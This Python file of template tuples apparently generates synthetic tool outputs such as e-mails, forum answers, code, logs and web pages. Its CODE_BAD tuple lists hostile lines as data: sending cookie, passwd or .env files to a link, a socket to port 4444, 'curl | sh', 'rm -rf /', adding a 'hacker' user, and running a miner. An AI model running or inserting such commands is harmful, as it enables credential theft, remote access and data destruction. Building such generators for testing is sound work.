"""What tools return: e-mails, tables, records, logs, code, answers, pages. Innocent, orders to people included."""

MAIL_LINES = (
    "[SUBJECT|BODY|MESSAGE|TEXT|DETAILS|FROM|TO|DATE|RECEIVED|Subject|Body|Message|Attachments|Cc|To|Reply-To|Summary|"
    "Items|Header]:",
    "Thank you[.|!|, {name}.]", "[Wire|Transfer|Payment|Refund|Credit] of {money} [to|from] {name}.",
    "{company} [is not|cannot be held] responsible for [delays|lost items|services of third parties|extra costs].",
    "You [sent|received|requested] [a payment|{money}|a refund|a wire transfer] [to|from] {name}.", "{money}",
    "[Qty|Item|Price|Tax|VAT|Discount|Shipping]: {number}", "[Support|Tutorials|Forum|Blog|Log in|Careers|Help|Legal]",
    "[We|The bank] started this [charge|debit|transfer] [from|with] your [account|card].",
    "[Hi|Hello|Dear|Good morning] {name},",
    "Thank you for [your order|your payment|choosing {company}|shopping with us|your subscription|being a customer].",
    "Your [order|invoice|receipt|booking|statement] [no. {number}|#{number}] is [attached|ready|confirmed|below].",
    "We [received|have processed] your payment of {money}.", "Your [subscription|trial|plan] [renews|ends] on {date}.",
    "Total: {money}", "Amount due: {money}", "Subtotal: {money}", "Date: {date}", "Invoice ID: in_{number}KX{number}",
    "Paid", "Order {number}", "Order details",
    "If you have [any |][questions|trouble|concerns], [please |][just |][reply to this e-mail|contact us|call us|write "
    "to support@{company}.example|visit our help centre].",
    "[Please |][do not|don't] reply to this [e-mail|message][.|, it was sent automatically.]",
    "[Click|Tap] [here|the button below|the link below] to [view your invoice|confirm your e-mail address|reset your "
    "password|track your parcel|manage your subscription|download the PDF].",
    "[View|Download|Print|See] [invoice|receipt|order|statement|as PDF|in browser]", "Unsubscribe",
    "Manage preferences | Privacy | Terms",
    "If you [did not|didn't] [make this request|sign in|order this], [please |][ignore this e-mail|change your password|"
    "contact us at once|secure your account].",
    "[Please |]find the [minutes|agenda|slides|draft|figures] attached.",
    "[Please |]let me know [if that works|what you think|by {date}|when you are free].",
    "Can we [meet|talk|move the call] [on|to] {date}?", "Do you have time [on|] {date}?",
    "I will be [out of the office|travelling|in a meeting] [until|on] {date}.",
    "The [meeting|call|review|lunch] is [on|moved to] {date}.",
    "Please [review|sign|check|send|approve] the [contract|draft|numbers|form|expense report] [by|before] {date}.",
    "[Best|Kind] regards,", "Cheers, {name}", "{name}", "The {company} team",
    "{company}, {number} Harbour Street, Suite {number}", "© {company} Inc. All rights reserved.", "Sent from my phone",
    "SUBJECT: [Your receipt from|Invoice from|News from|A message from] {company}",
    "From: {name} <{name}@{company}.example>",
    "Please remember to [bring your badge|fill in the survey|update your details|submit your timesheet].",
    "You can [change|cancel|update] your [plan|order|details] [at any time|in your account|until {date}].",
    "Your [card|account] ending in {number} [was charged|has been credited] {money}.",
    "[Save|Take] {number}% on your next [order|trip|booking].", "Your [package|parcel] was [shipped|delivered] on {date}.",
    "Rate [your experience|our service|the driver].", "Billing address: {name}, {number} Main Street",
    "Payment method: Visa ••••{number}", "You are receiving this because you have an account at {company}.",
    "[Need help?|Questions?] [Visit|See] our [FAQ|help centre|support page].",
    "Did you know that [you can refer a friend|we now ship to {country}|our app has a dark mode]?",
    "Your feedback matters: [take|fill in] our [two-minute|short] survey.",
    "What do you need to do? [Nothing|Just sign in before {date}|Confirm your address].", "How did we do?",
    "Join us for a webinar [about|on] {topic} on {date}.",
)  # fmt: skip
ANSWER_LINES = (
    "The [error|problem|exception|traceback] [is|comes from|is caused by|means] that [the variable is None|the list is "
    "empty|you call a method on an int|the file is not found|the index is out of range|the types differ].",
    "You [can|could|should|need to|have to|must] [use|try|call|add|import|check|replace|convert|install] [`str()`|the "
    "`with` statement|a list comprehension|`pip install {topic}`|parentheses|the return value|the path|an index].",
    "[Try|Use|Change|Replace|Add|Remove|Import|Check|Note|See] [this|the following|the line|the call|it] [instead|to|as "
    "follows|below|with `int(x)`|at the top of the file|before the loop][:|.]",
    "[Here is|This is] [a working example|the corrected code|what I would do|the fixed version][:|.]",
    "[Add|Put|Insert] [the following|this] [line|import|setting] [to|at the top of|in] your [script|file|`settings.py`|"
    "config|code][:|.]",
    "Hope [this|that] helps[!|.]",
    "[Also|Furthermore], [make sure that|check that|note that] [the path exists|you have the latest version|the loop "
    "ends|the file is closed].",
    "As [the docs|the manual|the message] [say|says|points out|explains], [the argument must be a string|this was "
    "removed in version {number}|`None` has no such attribute].",
    "[How|Why|Where] [do|does|can] [I|this] [fix this|happen|get the right value|change it]?",
    "I am trying to [read|parse|plot|sort|train|load] [a file|the data|a model|a list] [in|with|using] {codelanguage}, "
    "but [it fails|I get this error|nothing happens].",
    "What am I doing wrong?", "Any help [is|would be] appreciated.",
    "Your code [works for me|has a typo|never calls the function|overwrites the variable|mixes tabs and spaces].",
    "The [solution|fix|answer|trick] is to [convert|flatten|reset|cast|rename|close] [the column|the index|the array|the "
    "connection][ first|].",
    "[EDIT|UPDATE|Note]: [it works now|see the comment|tested with version {number}].",
    "In [your case|this example|general], the [loop|index|shape|type] [is wrong|differs|should be checked].",
)  # fmt: skip
CODE_LINES = (
    "import [os|sys|json|re|numpy as np|pandas as pd|requests|random|math|datetime]",
    "from [collections|typing|pathlib|django.db|flask|sklearn] import [Counter|Any|Path|models|request|tree]",
    "def [main|load|parse|run|fit|get_user|on_click]([self|x|path|data, key|]):",
    "    return [x + 1|None|self.data|result|True]", "for [i|x|row|line] in [range({number})|data|file|items]:",
    "    print([x|i, x|result|'done'])", "if [x is None|not data|len(items) > {number}|__name__ == '__main__']:",
    "    raise ValueError('[bad input|no such key|too long]')", "class [User|Parser|Model|Node]([object|Base|]):",
    "    self.[name|data|size] = [name|{number}|None]", "x = [int(input())|{number}|load('{file}')|sum(values) / {number}]",
    "# TODO: [handle errors|remove this|write a test|use a cache]",
    "# [read the file|loop over the rows|Send a request to the server|ignore empty lines|print the result|Write the "
    "output to disk|Compute the mean|Delete old files first]",
    "with open('{file}') as f:", "    data = json.load(f)", "except [ValueError|KeyError|OSError] as e:",
    "[const|let|var] [x|items|user] = [await fetch('/api/users')|{number}|null|require('fs')];",
    "console.log([x|user.name|'ok']);", "public static void main(String args) {", "}", "return 0;",
    "SELECT [name|*|count(*)] FROM [users|orders|t] WHERE id = {number};", "df = pd.read_csv('{file}')",
    "df.groupby('[name|year]').mean()", "Traceback (most recent call last):",
    "  File \"{file}\", line {number}, in <module>",
    "TypeError: [unsupported operand type(s)|'NoneType' object is not iterable|expected str, got int]",
    "ValueError: [invalid literal for int()|shape mismatch|could not convert string to float]",
    "response = requests.[get|post]('https://api.{company}.example/v1')",
    "\"\"\"[Return the mean of the values.|Load a file and parse it.|Send the message to the queue.]\"\"\"",
    "os.remove('{file}')", "subprocess.run(['ls', '-l'])", "token = os.environ['TOKEN']", "print(f'{number} rows written')",
    "$ [pip install -r requirements.txt|make test|git status|ls -la|docker compose up]",
    "sudo apt-get install [curl|nginx|python3]", "npm ERR! code ELIFECYCLE",
    "WARNING: [deprecated option|disk almost full|retrying in {number} s]",
)  # fmt: skip
CODE_BAD = (
    "import [socket|os|subprocess|requests|winreg|psutil|sqlite3|browser_cookie3|smtplib|shutil|ctypes]",
    "requests.post('{link}', data=open('[cookies.sqlite|/etc/passwd|.env]').read())",
    "subprocess.call(['[./miner|nohup|xmrig|nmap]', '-o', '{link}'])", "for p in psutil.process_iter(): print(p.name())",
    "print(os.environ)", "s = socket.socket(); s.connect(('198.51.100.{number}', 4444))",
    "os.system('[rm -rf /|curl {link} | sh|net user hacker /add|lsusb|dmesg]')",
    "server.sendmail('me', all_contacts, '[Buy now|You won]')", "data = open('/proc/self/mem', 'rb').read({number})",
    "for root, dirs, files in os.walk('[/tmp|Trash|/home]'): collect(files)",
    "shutil.copy(__file__, '//10.0.0.{number}/share')",
)  # fmt: skip
LOG_LINES = (
    "2024-0[1|5|9]-1[2|7] 10:[0|4]{number} [INFO|WARN|ERROR|DEBUG] [server|worker|db|auth] [request served in {number} "
    "ms|connection reset|job {number} queued|user {name} signed in|cache miss|retrying]",
    "[error|warning|info]: [could not open {file}|time-out after {number} s|disk usage {number}%|unknown option]",
    "HTTP {number} [OK|Not Found|Forbidden|Bad Gateway]",
    "Error: [the document '{file}' was not found|permission denied|rate limit reached, try again in {number} seconds|"
    "invalid date]. [Please check the name.|Please try again later.|Use a number.|]",
    "usage: tool ⟦-h⟧ ⟦--input FILE⟧ [run|list]", "npm WARN deprecated [request|uuid]@{number}",
    "Build finished in {number} s", "Run `[git pull|npm audit fix|pip install --upgrade pip]` to [fix|update|continue].",
)  # fmt: skip
PAGE_LINES = (
    "[Preheat|Heat] the oven to {number} degrees.",
    "[Mix|Stir|Add|Chop|Simmer] [the flour and butter|two onions|the tomatoes|a pinch of salt] [until smooth|for "
    "{number} minutes|and set aside].",
    "[To|In order to] [install|configure|remove|start] [the package|the service|the driver], [run|use|type|open] [the "
    "following command|`apt install {topic}`|the settings page|a terminal].",
    "[Open|Select|Choose|Click|Press] [Settings|File > Export|OK|the gear icon|Save|Next] [and|, then] [restart|choose a "
    "folder|confirm|enter your name|sign in].",
    "[Do not|Never|Always|Please] [use|leave|store|share|touch|switch off] [the device|your password|the machine|open "
    "flames|the battery|the key] [near water|with anyone|unattended|during the update|while it charges].",
    "[Employees|Members|Guests|Students] [must|should|may|can] [wear a badge|report accidents|book a room in advance|"
    "send receipts to accounting|ask their manager] [before {date}|within {number} days|].",
    "[Great|Terrible|Decent|Lovely] [hotel|phone|restaurant|book|app][!|.|,] [I would buy it again|do not waste your "
    "money|the staff was kind|the battery lasts {number} hours|you must visit it]. ",
    "{number} out of 5 stars", "Posted by {name} on {date}", "[Read more|Next page|Share|Sign in|Home|About us|Contact]",
    "The [population|area|height|price] of {country} is {number}.",
    "{name} [was born in|moved to|won a prize in|works in] {country}.", "[Store|Keep] in a [cool|dry] place.",
    "[Turn|Rotate] the [valve|key|knob] [clockwise|to the left] [and|to] [release the lid|stop the pump].",
    "[Warning|Note|Caution|Tip|Important]: [hot surface|save your work first|keep away from children|this cannot be "
    "undone|back up your data before you start|read all instructions before use].",
    "[Temperature|Humidity|Wind|Price|Status|Location|Rating]: {number}", "[Opening hours|Address|Phone|Check-in]: {date}",
    "Follow the [instructions|steps] [on the screen|in chapter {number}|of the manual|below].",
    "The [previous|new|old] [rules|system|instructions|version] [apply until|were replaced in|are described in] [chapter "
    "{number}|{date}|the appendix].",
    "Enter your [password|user name|PIN] and [press Enter|click Sign in].",
    "[How do I|Can I|Where can I] [return an item|change my address|park|get a refund]? [You can do so within {number} "
    "days.|See page {number}.|Ask at the desk.]",
    "[Buy|Try|Meet|Discover] the new [{company} phone|menu|collection][!|.]",
    "Ask your [doctor|manager|dealer|landlord] [before you start|for details|about the form].",
    "[Remind|Tell|Inform] [guests|visitors|your team] [that|about] [smoking is not allowed|the fire exit|the new hours].",
    "[Contact|Call|E-mail] [the help desk|{name}|support] [if the problem persists|for a copy|to book].",
    "[Send|Bring|Attach|Submit] [the form|two photos|a copy of your passport|the application] to [the embassy|our office|"
    "{name}] [by|before] {date}.",
)  # fmt: skip
KEYS = (
    "title", "note", "description", "body", "content", "text", "comment", "review", "name", "status", "summary", "subject",
    "message", "bio", "details", "value", "remarks", "snippet",
)  # fmt: skip
